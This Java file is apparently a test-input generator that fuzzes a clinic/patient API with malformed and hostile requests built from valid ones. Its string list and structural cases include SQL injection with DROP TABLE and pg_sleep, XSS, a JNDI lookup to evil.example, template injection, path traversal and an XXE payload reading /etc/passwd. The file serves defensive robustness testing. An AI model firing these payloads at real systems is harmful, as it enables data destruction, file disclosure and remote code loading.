package org.rehabit.e2e;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;

/**
 * The generator behind {@link HostileInputIT}: from one valid request of an endpoint, requests an attacker or a
 * broken client would send — a value of the wrong type, a field missing or added, huge strings and arrays, deep
 * JSON, bytes that are not UTF-8, unicode edge cases, SQL and script injection, numbers out of range, bad dates
 * and UUIDs, bodies that are not JSON or are far too big, and the wrong content type. Seeded, so that a failure
 * can be replayed with {@code -Dhostile.seed}.
 */
final class HostileInput {

    /** A request: everything but the token. */
    record Request(String label, String method, String path, Map<String, String> headers, byte[] body) {
        String bodyPreview() {
            if (body == null) {
                return "";
            }
            String text = new String(body, 0, Math.min(body.length, 160), StandardCharsets.UTF_8);
            return body.length > 160 ? text + "... (" + body.length + " bytes)" : text;
        }
    }

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final ObjectMapper JSON = new ObjectMapper();

    /** Strings that break naive code: injection, unicode edge cases, formats that look right but are not. */
    static final List<String> NASTY_STRINGS = List.of(
            "", " ", "\u0000", "a\u0000b", "' OR '1'='1", "'; DROP TABLE patient; --", "\" OR \"\"=\"",
            "1; SELECT pg_sleep(30); --", "%27%20OR%201=1", "<script>alert(1)</script>", "javascript:alert(1)",
            "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}", "../../../../etc/passwd", "..%2F..%2Fetc%2Fpasswd",
            "\ud800", "\udfff", "\ud83d\ude00\u200d\ud83d\udd25", "\u202e\u0644\u0627", "\u200b\ufeff", "\uffff",
            "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358", "null", "undefined", "NaN", "-0", "1e999",
            "0x7fffffff", "2026-02-30", "2026-13-01", "9999999-01-01", "-000001-01-01", "2026-11-24T25:61:00Z",
            "2026-11-24T08:30:00+25:00", "yesterday", "00000000-0000-0000-0000-000000000000",
            "00000000-0000-0000-0000-00000000000g", "not-a-uuid", "Europe/Nowhere", "\n\r\t",
            "%00", "%ff%fe", "\\u0000", "a".repeat(10_000));

    /** Values of every JSON type, in and out of range. */
    static List<Supplier<JsonNode>> nastyValues() {
        List<Supplier<JsonNode>> values = new ArrayList<>();
        for (String s : NASTY_STRINGS) {
            values.add(() -> NODES.textNode(s));
        }
        values.add(NODES::nullNode);
        values.add(() -> NODES.booleanNode(true));
        values.add(() -> NODES.numberNode(-1));
        values.add(() -> NODES.numberNode(0));
        values.add(() -> NODES.numberNode(Integer.MAX_VALUE));
        values.add(() -> NODES.numberNode(Integer.MIN_VALUE));
        values.add(() -> NODES.numberNode(Long.MAX_VALUE));
        values.add(() -> NODES.numberNode(new java.math.BigInteger("9".repeat(40))));
        values.add(() -> NODES.numberNode(new java.math.BigDecimal("1e400")));
        values.add(() -> NODES.numberNode(-1e308));
        values.add(() -> NODES.numberNode(0.5));
        values.add(NODES::arrayNode);
        values.add(NODES::objectNode);
        values.add(() -> NODES.arrayNode().add(NODES.nullNode()));
        values.add(() -> NODES.objectNode().put("$gt", ""));
        values.add(() -> NODES.textNode("x".repeat(300_000)));
        values.add(() -> {
            ArrayNode huge = NODES.arrayNode();
            for (int i = 0; i < 20_000; i++) {
                huge.add(i);
            }
            return huge;
        });
        values.add(() -> deepArray(500));
        return values;
    }

    /** Fields a client must never be able to set, for the extra-field cases. */
    static final List<String> FOREIGN_FIELDS = List.of("id", "clinicId", "patientId", "authorId", "status", "version",
            "revision", "createdAt", "__proto__", "constructor", "", "a".repeat(1000));

    private final Random random;

    HostileInput(long seed) {
        this.random = new Random(seed);
    }

    /** Requests that are wrong whatever the endpoint: bodies that are not JSON, not UTF-8, too deep, too big. */
    static List<Request> structural(String method, String path, boolean takesBody) {
        List<Request> requests = new ArrayList<>();
        Map<String, String> json = Map.of("Content-Type", "application/json");
        if (takesBody) {
            requests.add(new Request("no body", method, path, json, new byte[0]));
            requests.add(new Request("not JSON", method, path, json, bytes("{not json")));
            requests.add(new Request("JSON null", method, path, json, bytes("null")));
            requests.add(new Request("JSON array", method, path, json, bytes("[]")));
            requests.add(new Request("JSON string", method, path, json, bytes("\"x\"")));
            requests.add(new Request("trailing garbage", method, path, json, bytes("{}}}")));
            requests.add(new Request("duplicate keys", method, path, json, bytes("{\"a\":1,\"a\":2}")));
            requests.add(new Request("invalid UTF-8", method, path, json,
                    concat(bytes("{\"displayName\":\"a"), new byte[]{(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE},
                            bytes("\",\"name\":\"\u00e9\"}"))));
            requests.add(new Request("overlong UTF-8 NUL", method, path, json,
                    concat(bytes("{\"displayName\":\""), new byte[]{(byte) 0xC0, (byte) 0x80}, bytes("\"}"))));
            requests.add(new Request("UTF-16 body", method, path, json,
                    "{\"displayName\":\"x\"}".getBytes(StandardCharsets.UTF_16)));
            requests.add(new Request("deep JSON (100k)", method, path, json, bytes(deepArrayText(100_000))));
            requests.add(new Request("deep object (3k)", method, path, json, bytes(deepObjectText(3_000))));
            requests.add(new Request("oversized body (12 MB)", method, path, json,
                    bytes("{\"displayName\":\"" + "x".repeat(12 * 1024 * 1024) + "\"}")));
            requests.add(new Request("text/plain", method, path, Map.of("Content-Type", "text/plain"), bytes("{}")));
            requests.add(new Request("application/xml", method, path, Map.of("Content-Type", "application/xml"),
                    bytes("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>")));
            requests.add(new Request("form", method, path,
                    Map.of("Content-Type", "application/x-www-form-urlencoded"), bytes("displayName=x")));
            requests.add(new Request("multipart", method, path,
                    Map.of("Content-Type", "multipart/form-data; boundary=zz"), bytes("--zz\r\n\r\nx\r\n--zz--")));
            requests.add(new Request("unknown charset", method, path,
                    Map.of("Content-Type", "application/json; charset=x-unknown-42"), bytes("{}")));
            requests.add(new Request("garbage content type", method, path, Map.of("Content-Type", ";;;/"), bytes("{}")));
        } else {
            requests.add(new Request("unexpected body", method, path, json, bytes("{\"clinicId\":\"x\"}")));
        }
        requests.add(new Request("Accept: application/xml", method, path, Map.of("Accept", "application/xml"), null));
        requests.add(new Request("huge header", method, path, Map.of("X-Filler", "x".repeat(7_000)), null));
        return requests;
    }

    /** {@code count} requests that change one value of the valid body (or add one field) in a hostile way. */
    List<Request> bodyMutations(String method, String path, Map<String, String> headers, String validBody, int count) {
        JsonNode valid = parse(validBody);
        List<String> pointers = new ArrayList<>();
        collectPointers(valid, "", pointers);
        List<Supplier<JsonNode>> values = nastyValues();
        List<Request> requests = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            JsonNode body = valid.deepCopy();
            String label;
            int kind = random.nextInt(10);
            if (kind == 0 && !pointers.isEmpty()) {
                String pointer = pointers.get(random.nextInt(pointers.size()));
                remove(body, pointer);
                label = "without " + pointer;
            } else if (kind == 1 && body instanceof ObjectNode object) {
                String field = FOREIGN_FIELDS.get(random.nextInt(FOREIGN_FIELDS.size()));
                object.set(field, values.get(random.nextInt(values.size())).get());
                label = "extra field '" + abbreviate(field) + "'";
            } else if (!pointers.isEmpty()) {
                String pointer = pointers.get(random.nextInt(pointers.size()));
                int v = random.nextInt(values.size());
                replace(body, pointer, values.get(v).get());
                label = pointer + " = nasty value #" + v;
            } else {
                continue;
            }
            requests.add(new Request(label, method, path, headers, bytes(body.toString())));
        }
        return requests;
    }

    /** A random nasty string, for a path segment, a query parameter or a header. */
    String nastyString() {
        return NASTY_STRINGS.get(random.nextInt(NASTY_STRINGS.size()));
    }

    static String abbreviate(String s) {
        String printable = s.replaceAll("\\p{Cntrl}", "?");
        return printable.length() > 40 ? printable.substring(0, 40) + "...(" + s.length() + ")" : printable;
    }

    private static JsonNode parse(String body) {
        try {
            return JSON.readTree(body);
        } catch (java.io.IOException e) {
            throw new IllegalArgumentException(body, e);
        }
    }

    private static void collectPointers(JsonNode node, String at, List<String> out) {
        if (node.isObject()) {
            Iterator<String> names = node.fieldNames();
            while (names.hasNext()) {
                String name = names.next();
                String pointer = at + "/" + name;
                out.add(pointer);
                collectPointers(node.get(name), pointer, out);
            }
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                out.add(at + "/" + i);
                collectPointers(node.get(i), at + "/" + i, out);
            }
        }
    }

    private static void replace(JsonNode root, String pointer, JsonNode value) {
        int cut = pointer.lastIndexOf('/');
        JsonNode parent = root.at(pointer.substring(0, cut));
        String last = pointer.substring(cut + 1);
        if (parent instanceof ObjectNode object) {
            object.set(last, value);
        } else if (parent instanceof ArrayNode array) {
            array.set(Integer.parseInt(last), value);
        }
    }

    private static void remove(JsonNode root, String pointer) {
        int cut = pointer.lastIndexOf('/');
        JsonNode parent = root.at(pointer.substring(0, cut));
        String last = pointer.substring(cut + 1);
        if (parent instanceof ObjectNode object) {
            object.remove(last);
        } else if (parent instanceof ArrayNode array) {
            array.remove(Integer.parseInt(last));
        }
    }

    private static JsonNode deepArray(int depth) {
        ArrayNode root = NODES.arrayNode();
        ArrayNode at = root;
        for (int i = 0; i < depth; i++) {
            at = at.addArray();
        }
        return root;
    }

    static String deepArrayText(int depth) {
        return "[".repeat(depth) + "]".repeat(depth);
    }

    private static String deepObjectText(int depth) {
        return "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
    }

    static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }
}
